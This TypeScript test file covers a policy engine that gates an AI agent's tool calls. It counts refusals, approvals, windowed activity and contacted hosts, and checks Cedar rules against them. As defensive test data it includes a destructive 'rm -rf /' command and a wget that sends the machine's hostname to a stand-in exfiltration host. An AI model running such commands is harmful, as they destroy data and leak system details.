/**
 * The session facts people ask for (issue 30 item 4): refusals in total, per class and per
 * policy, approvals pending and denied, counts within a window, hosts and recipient domains; each
 * learnt from the merged decision, bounded, and readable by a Cedar rule that the schema checks.
 */
import { domainToASCII } from "node:url";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  afterApproval,
  afterDecision,
  assertCedarTypes,
  BUCKET_MS,
  decidedCallOf,
  emptySessionFacts,
  evaluateCedar,
  MAX_FACT_NAMES,
  MemorySessionFactStore,
  parseCedarPolicySet,
  recentCounts,
  WINDOW_BUCKETS,
  WINDOWS,
  type SessionFacts,
} from "../../../src/cedar/index.js";
import { countIn, type WindowBucket } from "../../../src/cedar/session-windows.js";
import { isHookbusError } from "../../../src/foundation/errors.js";
import { toolVocabulary } from "../../../src/vocabulary/index.js";
import { callFacts, loadCallFacts } from "../../../src/policy/call-facts.js";

const T0 = Date.UTC(2026, 0, 1);
const bash = toolVocabulary.classify("Bash");

function learn(facts: SessionFacts, hook: string, event: object, decision: object, at = T0) {
  const call = decidedCallOf({
    hook,
    event: event as Record<string, unknown>,
    decision: decision as Record<string, unknown>,
    at,
    vocabulary: toolVocabulary,
  });
  return call === undefined ? facts : afterDecision(facts, call);
}

describe("session facts learnt from the merged decision", () => {
  it("count a block as a refusal whoever blocked, per class and per policy, and not as a call", () => {
    const event = { toolName: "Bash", params: { command: "rm -rf /" } };
    let facts = learn(emptySessionFacts(), "before_tool_call", event, {
      outcome: "block",
      blockedBy: "no-rm",
    });
    facts = learn(facts, "before_response_emit", { content: "x" }, { outcome: "block" });
    expect(facts.refusals).toBe(2);
    expect(facts.refusalsByClass.shell).toBe(1);
    expect({ ...facts.refusalsByPolicy }).toEqual({ "no-rm": 1 });
    expect(facts.toolCalls).toBe(0);
    expect(facts.classCounts.shell).toBe(0);
    expect(recentCounts(facts.buckets, T0).m1).toMatchObject({ toolCalls: 0, refusals: 2 });
  });

  it("learn hosts and recipient domains of allowed calls only", () => {
    const fetch = { toolName: "web_fetch", params: { url: "https://Docs.Example.com/a?b=c" } };
    const mail = { toolName: "send_email", params: { to: ["a@corp.example", "b@ÉVIL.test"] } };
    let facts = learn(emptySessionFacts(), "before_tool_call", fetch, { outcome: "allow" });
    facts = learn(facts, "before_tool_call", mail, { outcome: "pending_approval" });
    const blocked = { toolName: "web_fetch", params: { url: "https://blocked.test/" } };
    facts = learn(facts, "before_tool_call", blocked, { outcome: "block", blockedBy: "p" });
    expect(facts.hosts).toEqual(["docs.example.com"]);
    expect(facts.recipientDomains).toEqual(["corp.example", domainToASCII("évil.test")]);
    expect(facts.approvalsPending).toBe(1);
    expect(facts.toolCalls).toBe(2);
  });

  it("learn the hosts a shell command contacts, as the call's own facts name them", async () => {
    await loadCallFacts();
    const shell = (command: string) => ({ toolName: "Bash", params: { command } });
    let facts = emptySessionFacts();
    for (const command of [
      "curl -s https://Paste.Example/x",
      "git clone git@code.example:team/repo.git && wget -q http://$(cat /etc/hostname).exfil.test/",
    ]) {
      const event = shell(command);
      const call = decidedCallOf({
        hook: "before_tool_call",
        event,
        decision: { outcome: "allow" },
        at: T0,
        vocabulary: toolVocabulary,
        facts: () => callFacts("before_tool_call", event, {}),
      });
      facts = afterDecision(facts, call!);
    }
    expect(facts.hosts).toEqual(["paste.example", "code.example", "$(…).exfil.test"]);
  });

  it("settle approvals: pending goes down (never below 0), a person's denial is counted", () => {
    let facts = learn(
      emptySessionFacts(),
      "before_tool_call",
      { toolName: "Bash" },
      {
        outcome: "pending_approval",
      },
    );
    facts = afterApproval(facts, "denied");
    expect([facts.approvalsPending, facts.approvalsDenied]).toEqual([0, 1]);
    facts = afterApproval(facts, "timed-out");
    expect([facts.approvalsPending, facts.approvalsDenied]).toEqual([0, 1]);
  });

  it("teach nothing on an LLM hook that was not blocked (no store write on the hot path)", () => {
    expect(
      decidedCallOf({
        hook: "before_llm_call",
        event: { messages: [] },
        decision: { outcome: "allow" },
        at: T0,
        vocabulary: toolVocabulary,
      }),
    ).toBeUndefined();
  });

  it("bound the per-policy counts; a policy named __proto__ is a count like another", () => {
    let facts = emptySessionFacts();
    for (let i = 0; i < MAX_FACT_NAMES + 10; i++) {
      facts = afterDecision(facts, {
        hook: "before_tool_call",
        outcome: "block",
        blockedBy: `p${i}`,
        at: T0,
      });
    }
    expect(Object.keys(facts.refusalsByPolicy)).toHaveLength(MAX_FACT_NAMES);
    expect(facts.refusals).toBe(MAX_FACT_NAMES + 10);
    // A policy already counted keeps counting past the bound.
    facts = afterDecision(facts, {
      hook: "before_tool_call",
      outcome: "block",
      blockedBy: "p0",
      at: T0,
    });
    expect(facts.refusalsByPolicy.p0).toBe(2);
    const proto = afterDecision(emptySessionFacts(), {
      hook: "before_tool_call",
      outcome: "block",
      blockedBy: "__proto__",
      at: T0,
    });
    expect(Object.hasOwn(proto.refusalsByPolicy, "__proto__")).toBe(true);
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  });

  it("lose no update of one session when many are applied at once", async () => {
    const store = new MemorySessionFactStore();
    const block = { hook: "before_tool_call", outcome: "block", blockedBy: "p", at: T0 };
    await Promise.all(
      Array.from({ length: 100 }, () => store.update("a", "s", (f) => afterDecision(f, block))),
    );
    expect((await store.read("a", "s")).refusals).toBe(100);
  });
});

describe("counts within a window", () => {
  it("never count less than the events in the window, nor more than one bucket beyond it", () => {
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: 0, max: 20 * 60_000 }), { maxLength: 200 }),
        fc.integer({ min: 0, max: 20 * 60_000 }),
        (offsets, nowOffset) => {
          const sorted = [...offsets].sort((a, b) => a - b);
          let buckets: WindowBucket[] = [];
          for (const o of sorted) buckets = countIn(buckets, { at: T0 + o, refusal: true });
          expect(buckets.length).toBeLessThanOrEqual(WINDOW_BUCKETS);
          const now = T0 + Math.max(nowOffset, sorted.at(-1) ?? 0);
          const recent = recentCounts(buckets, now);
          for (const [name, ms] of Object.entries(WINDOWS)) {
            const inside = sorted.filter((o) => T0 + o > now - ms).length;
            const nearly = sorted.filter((o) => T0 + o > now - ms - BUCKET_MS).length;
            const counted = recent[name as keyof typeof WINDOWS].refusals;
            expect(counted).toBeGreaterThanOrEqual(inside);
            expect(counted).toBeLessThanOrEqual(nearly);
          }
        },
      ),
    );
  });

  it("count a call that arrives late in its own bucket, and forget what is older than 15 minutes", () => {
    let buckets = countIn([], { at: T0 + 60_000, toolCall: "shell" });
    buckets = countIn(buckets, { at: T0, toolCall: "shell" });
    expect(buckets.map((b) => b.start)).toEqual([T0, T0 + 60_000]);
    expect(recentCounts(buckets, T0 + 60_000).m5.classCounts.shell).toBe(2);
    buckets = countIn(buckets, { at: T0 + 70_000 + WINDOWS.m15, toolCall: "file-read" });
    expect(buckets).toHaveLength(1);
    expect(recentCounts(buckets, T0 + 70_000 + WINDOWS.m15).m15).toMatchObject({ toolCalls: 1 });
  });
});

describe("session facts in Cedar", () => {
  const check = (text: string) => {
    const set = parseCedarPolicySet(text, "t.cedar");
    assertCedarTypes(set);
    return set;
  };
  const decide = (text: string, session: SessionFacts, now = T0) =>
    evaluateCedar(check(text), {
      hook: "before_tool_call",
      context: { agentId: "a", sessionKey: "s" },
      event: { toolName: "Bash", params: { command: "ls" } },
      session,
      now,
    }).verdict?.block === true;

  it("reads per-policy refusals as tags, windows at the call's time, hosts and domains", () => {
    let facts = emptySessionFacts();
    for (let i = 0; i < 3; i++)
      facts = afterDecision(facts, {
        hook: "before_tool_call",
        outcome: "block",
        blockedBy: "no-rm",
        tool: bash,
        at: T0,
      });
    const byPolicy = `forbid (principal, action, resource) when {
      context.session.refusalsByPolicy.hasTag("no-rm") && context.session.refusalsByPolicy.getTag("no-rm") >= 3 };`;
    expect(decide(byPolicy, facts)).toBe(true);
    expect(decide(byPolicy.replace(">= 3", ">= 4"), facts)).toBe(false);
    const recent = `forbid (principal, action, resource) when { context.session.recent.m1.refusals >= 3 };`;
    expect(decide(recent, facts, T0 + 30_000)).toBe(true);
    expect(decide(recent, facts, T0 + 5 * 60_000)).toBe(false);
    const byClass = `forbid (principal, action, resource) when { context.session.refusalsByClass["shell"] >= 3 };`;
    expect(decide(byClass, facts)).toBe(true);
    const contacted = `forbid (principal, action, resource) when { context.session.hosts.contains("x.test") };`;
    expect(decide(contacted, facts)).toBe(false);
    expect(decide(contacted, { ...facts, hosts: ["x.test"] })).toBe(true);
  });

  it("refuses a misspelt session fact before it runs", () => {
    for (const wrong of [
      "refusal",
      "refusalsByPolicies",
      "approvalDenied",
      "recent.m2.toolCalls",
    ]) {
      const text = `forbid (principal, action, resource) when { context.session.${wrong} >= 3 };`;
      let code: string | undefined;
      try {
        check(text);
      } catch (error) {
        code = isHookbusError(error) ? error.code : "other";
      }
      expect({ wrong, code }).toEqual({ wrong, code: "HOOKBUS_INVALID_CEDAR" });
    }
  });
});
